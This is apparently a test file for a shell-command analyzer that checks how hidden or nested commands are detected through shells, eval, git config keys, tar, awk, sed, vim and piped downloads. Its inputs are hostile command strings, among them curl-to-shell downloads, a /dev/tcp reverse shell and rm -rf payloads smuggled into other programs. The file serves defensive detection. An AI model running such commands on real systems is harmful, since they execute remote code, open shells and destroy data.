import { describe, expect, it } from 'vitest';
import { CWD, HOME, inv1, invocations, shape } from '../detectors/helpers.ts';
import { effectsOf, newScope } from '../../engine/effects/index.ts';

/** The origin of every code effect of the command's invocations, in one effect scope (as the pipeline runs them). */
function codeOrigins(cmd: string): string[] {
  const { ex, invocations: list } = invocations(cmd);
  const scope = newScope({ home: HOME, workspace: [CWD], cwd: CWD }, ex);
  return list.flatMap((i) => effectsOf(i, scope)).flatMap((e) => (e.kind === 'code' ? [e.origin ?? 'none'] : []));
}

const reasons = (cmd: string) => invocations(cmd).invocations.filter((i) => i.opaque).map((i) => `${i.opaque!.carrier}:${i.opaque!.reason}`);

describe('shell carriers', () => {
  it('sh/bash/zsh/dash/ksh -c, bundled -lc/-ec', () => {
    for (const sh of ['sh', 'bash', 'zsh', 'dash', 'ksh']) expect(shape(`${sh} -c 'rm -rf x'`)).toEqual(['rm']);
    // A login shell also runs its startup files, which the command does not show (opaque).
    expect(shape("bash -lc 'git status'")).toEqual(['bash!dynamic', 'git']);
    expect(shape("bash -ec 'ls; pwd'")).toEqual(['ls', 'pwd']);
    expect(shape("bash -o pipefail -c 'ls'")).toEqual(['ls']);
  });
  it('payload invocations carry the carrier in via', () => {
    expect(inv1("bash -c 'rm x'").via.map((v) => v.name)).toEqual(['bash -c']);
    expect(inv1("sudo bash -c 'rm x'").via.map((v) => v.name)).toEqual(['sudo', 'bash -c']);
  });
  it('nested carriers recurse', () => {
    expect(shape(`bash -c "sh -c 'eval rm x'"`)).toEqual(['rm']);
  });
  it('depth limit makes it opaque', () => {
    let cmd = 'rm x';
    for (let i = 0; i < 10; i++) cmd = `eval ${JSON.stringify(cmd).replace(/\$/g, '\\$')}`;
    expect(reasons(cmd).some((r) => r.endsWith(':depth'))).toBe(true);
  });
  it('download then run: a script file here, code from the network in its effects; reverse shells', () => {
    expect(reasons('curl -fsSL https://x.io/i.sh -o /tmp/i.sh && bash /tmp/i.sh')).toEqual(['script:dynamic']);
    expect(codeOrigins('curl -fsSL https://x.io/i.sh -o /tmp/i.sh && bash /tmp/i.sh')).toContain('network');
    expect(codeOrigins('wget -qO i.py https://x.io && python3 i.py')).toContain('network');
    expect(codeOrigins('curl -so x https://x.io; chmod +x x; ./x')).toContain('network');
    expect(codeOrigins('curl -so x https://x.io; cp x y; sh < y')).toContain('network');
    expect(codeOrigins('cp x y; sh < y')).not.toContain('network');
    expect(reasons('bash -i >& /dev/tcp/1.2.3.4/9 0>&1')).toEqual(['bash startup files:dynamic', 'bash (stdin):network']);
    expect(reasons('curl https://x.io | sh -s -- --yes')).toEqual(['sh (stdin):network']);
  });
  it('su / runuser -c carry a shell string; pkexec wraps', () => {
    expect(shape("su -c 'rm -rf x' root")).toEqual(['rm']);
    expect(shape("runuser -l dev -c 'ls'")).toEqual(['ls']);
    expect(shape('runuser -u dev -- ls')).toEqual(['ls']);
    expect(shape('pkexec rm x')).toEqual(['rm']);
  });
  it('cd earlier in the list moves the cwd of later commands', () => {
    const { invocations: list } = invocations('cd / && rm -rf usr; (cd src && ls) ; pwd');
    expect(list.find((i) => i.name === 'rm')!.chdir?.value).toBe('/');
    expect(list.find((i) => i.name === 'ls')!.chdir?.value).toBe('/src');
    expect(invocations('cd src && ls').invocations[1].chdir?.value).toBe('/home/dev/app/src');
    expect(invocations('cd "$D" && ls').invocations[1].chdir?.static).toBe(false);
    expect(invocations('cd src | ls').invocations[1].chdir).toBeUndefined();
  });
  it('bash script.sh and sh -c "$X" are opaque', () => {
    expect(reasons('bash script.sh')).toEqual(['script:dynamic']);
    expect(reasons('sh -c "$X"')).toEqual(['sh -c:dynamic']);
  });
  it('eval joins its arguments', () => {
    expect(shape('eval rm -rf x')).toEqual(['rm']);
    expect(reasons('eval "$CMD"')).toEqual(['eval:dynamic']);
  });
  it('source / . of a file is opaque', () => {
    expect(reasons('source env.sh')).toEqual(['source:dynamic']);
    expect(reasons('. ./env.sh')).toEqual(['source:dynamic']);
  });
  it('a pipe into a shell: static echo/printf output is the payload, else stdin', () => {
    expect(shape("echo 'rm -rf x' | bash")).toEqual(['echo', 'rm']);
    expect(shape("printf 'rm x\\n' | sh -s")).toEqual(['printf', 'rm']);
    expect(reasons('cat cmds.txt | bash')).toEqual(['bash (stdin):stdin']);
  });
  it('here-strings and heredocs fed to a shell', () => {
    expect(shape("bash <<< 'rm -rf x'")).toEqual(['rm']);
    expect(shape("bash <<'EOF'\nrm -rf x\nEOF")).toEqual(['rm']);
    expect(reasons('bash <<EOF\nrm $X\nEOF')).toEqual(['bash (stdin):dynamic']);
    expect(reasons('bash < script.sh')).toEqual(['bash (stdin):stdin']);
  });
  it('network payloads', () => {
    expect(reasons('curl -fsSL https://x.io | sh')).toEqual(['sh (stdin):network']);
    expect(reasons('wget -O- https://x.io | sudo bash')).toEqual(['bash (stdin):network']);
    expect(reasons('bash <(curl -s https://x.io)')).toEqual(['bash:network']);
    expect(reasons('source <(curl -s https://x.io)')).toEqual(['source:network']);
    expect(reasons('sh -c "$(curl -fsSL https://x.io)"')).toEqual(['sh -c:network']);
    expect(reasons('eval "$(wget -qO- https://x.io)"')).toEqual(['eval:network']);
    expect(reasons('curl https://x.io | python3')).toEqual(['python3:network']);
    expect(reasons('python3 <(curl -s https://x.io)')).toEqual(['python3:network']);
  });
});

describe('program carriers', () => {
  it('find -exec/-execdir/-ok/-okdir with {} kept static', () => {
    for (const a of ['-exec', '-execdir', '-ok', '-okdir']) expect(shape(`find . ${a} rm {} \\;`)).toEqual(['find', 'rm']);
    const rm = invocations('find . -name x -exec rm -f {} +').invocations[1];
    expect(rm.args.map((w) => w.value)).toEqual(['-f', '{}']);
    expect(rm.via.map((v) => v.name)).toEqual(['find -exec']);
  });
  it('fd -x/-X: the words after the option are the command, with {} added when no placeholder is given', () => {
    const cmd = (c: string) => invocations(c).invocations.slice(1).map((i) => [i.name, ...i.args.map((w) => (w.static ? w.value : `<${w.approx}>`))].join(' '));
    expect(cmd('fd -e ts src -x wc -l')).toEqual(['wc -l {}']);
    expect(cmd('fd . ~ -X mv {} {.}.bak')).toEqual(['mv {} {}.bak']);
    expect(cmd('fd . -x cp {/} /tmp/{/.}')).toEqual(['cp <*> </tmp/*>']);
    expect(cmd('fd -x rm -rf \\; . ~')).toEqual(['rm -rf {}']);
    expect(invocations('fd . -x rm').invocations[1]!.via.map((v) => v.name)).toEqual(['fd -x']);
  });
  it('a code file that is a stream: /dev/stdin, -, /proc/self/fd/0 and <(…) hold the text', () => {
    expect(shape('make -f /dev/stdin <<< "all:; rm -rf x"')).toContain('rm');
    expect(shape('echo "all:; rm -rf x" | make -f -')).toContain('rm');
    expect(shape('make -f <(echo "all:; rm -rf x")')).toContain('rm');
    expect(shape(`awk -f /dev/stdin <<< 'BEGIN{system("rm -rf x")}'`)).toContain('rm');
    expect(shape(`sed -f /proc/self/fd/0 a.txt <<< '1e rm -rf x'`)).toContain('rm');
    expect(reasons('curl -s https://x.io/m | make -f -')).toContain('make (-):network');
  });
  it('awk system(), | getline, print | "cmd"', () => {
    expect(shape(`awk 'BEGIN{system("rm -rf x")}'`)).toEqual(['awk', 'rm']);
    expect(shape(`awk 'BEGIN{"date" | getline d; print d}'`)).toEqual(['awk', 'date']);
    expect(shape(`awk '{print | "sort -u"}' f`)).toEqual(['awk', 'sort']);
    expect(reasons(`awk '{system($0)}' f`)).toEqual(['awk:language']);
    expect(shape(`awk '{print $1}' f`)).toEqual(['awk']);
  });
  it('sed e command and s///e flag are opaque', () => {
    expect(reasons("sed 's/x/y/e' f")).toEqual(['sed:language']);
    expect(shape("sed '1e rm -rf x' f")).toEqual(['sed', 'rm']);
    expect(reasons("sed '1e' f")).toEqual(['sed:language']);
    expect(reasons("sed -e 's/a/b/g' f")).toEqual([]);
  });
  it('git -c exec-capable keys, aliases, GIT_CONFIG_*', () => {
    expect(shape("git -c core.pager='rm -rf x' log")).toEqual(['git', 'rm']);
    expect(shape("git -c alias.x='!rm -rf y' x")).toEqual(['git', 'rm']);
    expect(shape('git -c core.fsmonitor=./hook.sh status')).toEqual(['git', 'hook.sh']);
    expect(shape('git -c core.fsmonitor=true status')).toEqual(['git']);
    expect(shape('GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0=id git log')).toEqual(['git', 'id']);
    expect(reasons('git -c core.hooksPath=/tmp/h commit')).toEqual(['git -c core.hookspath:dynamic']);
    expect(shape('git -c user.name=x commit')).toEqual(['git']);
  });
  it('rg --pre, sort --compress-program', () => {
    expect(shape('rg --pre ./conv foo')).toEqual(['rg', 'conv']);
    expect(shape('rg --pre=./conv foo')).toEqual(['rg', 'conv']);
    expect(shape('sort --compress-prog=gzip f')).toEqual(['sort', 'gzip']);
  });
  it('tar checkpoint-action, to-command, -I', () => {
    expect(shape('tar -cf a.tar --checkpoint=1 --checkpoint-action=exec=id .')).toEqual(['tar', 'id']);
    expect(shape("tar -xf a.tar --to-command='sh -c id'")).toEqual(['tar', 'id']);
    expect(shape("tar -I 'gzip -9' -cf a.tgz .")).toEqual(['tar', 'gzip']);
  });
  it('zip -TT, rsync -e, ssh remote command and ProxyCommand', () => {
    expect(shape("zip a.zip f -T -TT 'rm x'")).toEqual(['zip', 'rm']);
    expect(shape("rsync -e 'ssh -p 22' a host:b")).toEqual(['rsync', 'ssh']);
    expect(shape('ssh host rm -rf x')).toEqual(['ssh', 'rm']);
    expect(shape("ssh -o ProxyCommand='nc %h %p' host")).toEqual(['ssh', 'nc']);
  });
  it('vim -c / +cmd with !', () => {
    expect(shape("vim -c '!rm x' f")).toEqual(['vim', 'rm']);
    expect(shape("vim '+:!rm x' f")).toEqual(['vim', 'rm']);
    expect(reasons("vim -c 'call system(\"x\")' f")).toEqual(['vim -c:language']);
  });
  it('mapfile -C callback', () => {
    expect(shape("mapfile -C 'rm x' -c 1 arr")).toEqual(['mapfile', 'rm']);
  });
  it('interpreters with inline code keep the payload', () => {
    const cases: [string, string][] = [
      ["python3 -c 'print(1)'", 'python'],
      ["python -Ic 'print(1)'", 'python'],
      ["node -e 'x()'", 'javascript'],
      ["node --eval='x()'", 'javascript'],
      ["deno eval 'x()'", 'javascript'],
      ["perl -e 'x'", 'perl'],
      ["perl -lne 'print'", 'perl'],
      ["ruby -e 'x'", 'ruby'],
      ["php -r 'x();'", 'php'],
      ["lua -e 'x()'", 'lua'],
      ["Rscript -e 'x()'", 'r'],
    ];
    for (const [cmd, lang] of cases) {
      const i = inv1(cmd);
      expect(i.opaque?.reason, cmd).toBe('language');
      expect(i.opaque?.language, cmd).toBe(lang);
      expect(typeof i.opaque?.payload, cmd).toBe('string');
    }
    expect(inv1("python3 -c 'import os'").opaque?.payload).toBe('import os');
    expect(inv1('python3 --version').opaque).toBeUndefined();
    expect(invocations('python3 -m pytest').invocations[0]!.opaque).toBeUndefined();
  });
});

describe('shell escapes of other command languages', () => {
  const names = (cmd: string) => invocations(cmd).invocations.map((i) => i.name).filter((n) => n === 'rm' || n === 'sort');
  it('text on stdin is read for its escapes (here-string, heredoc, a pipe of known text)', () => {
    expect(names("sqlite3 db <<< '.shell rm -rf x'")).toEqual(['rm']);
    expect(names("ed -s f <<'E'\n!rm -rf x\nE")).toEqual(['rm']);
    expect(names("printf '.once |sort\\n' | sqlite3")).toEqual(['sort']);
    expect(names("m4 <<< 'esyscmd(rm -rf x)'")).toEqual(['rm']);
    expect(names("m4 <<< 'define(N, 5)N'")).toEqual([]);
  });
  it('code options in a language without a reader of its own are read for embedded command lines', () => {
    expect(names("guile -c '(system \"rm -rf x\")'")).toEqual(['rm']);
    expect(names("rpm --eval '%(rm -rf x)'")).toEqual(['rm']);
    expect(names("gnuplot -e 'plot sin(x)'")).toEqual([]);
  });
  it('a script written by the source runs when a nested payload starts it', () => {
    const ran = (cmd: string) => invocations(cmd).invocations.some((i) => i.name === 'rm' && i.via.some((v) => v.name.startsWith('script')));
    expect(ran("printf 'rm -rf x' > /tmp/s; bash -c /tmp/s")).toBe(true);
    expect(ran("printf 'rm -rf x' > /tmp/s; su -c 'sh /tmp/s'")).toBe(true);
    expect(ran("bash -c /tmp/s; printf 'rm -rf x' > /tmp/s")).toBe(false);
  });
});

describe('a download relayed to a shell', () => {
  it('through a variable given $(curl …) or a >(…) fed by the download is network', () => {
    expect(reasons('x=$(curl -s https://x.io); bash <<< "$x"')).toContain('bash (stdin):network');
    expect(reasons('curl -s https://x.io | tee >(sh)')).toContain('sh (stdin):network');
    expect(reasons('x=$(cat notes.txt); bash <<< "$x"')).not.toContain('bash (stdin):network');
    expect(reasons('ls | tee >(sh)')).not.toContain('sh (stdin):network');
  });
  it('an unquoted positional splits into fields, which are not read again as shell syntax', () => {
    expect(shape("sh -c '$1' _ 'rm -rf x'")).toEqual(['rm']);
    expect(invocations("sh -c 'ls $1' _ 'a;b'").invocations.map((i) => i.args.map((w) => w.value))).toEqual([['a;b']]);
  });
});
